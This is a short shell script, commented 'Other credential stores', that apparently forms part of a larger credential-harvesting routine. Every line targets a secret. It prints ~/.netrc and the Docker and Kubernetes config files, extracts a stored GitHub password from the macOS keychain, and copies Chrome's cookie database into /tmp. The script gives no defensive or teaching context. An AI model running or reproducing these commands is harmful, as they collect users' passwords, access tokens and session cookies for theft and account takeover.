#!/bin/sh
# Other credential stores.
cat ~/.netrc
cat ~/.docker/config.json
cat ~/.kube/config
security find-generic-password -s github -w
cp ~/Library/Application\ Support/Google/Chrome/Default/Cookies /tmp/
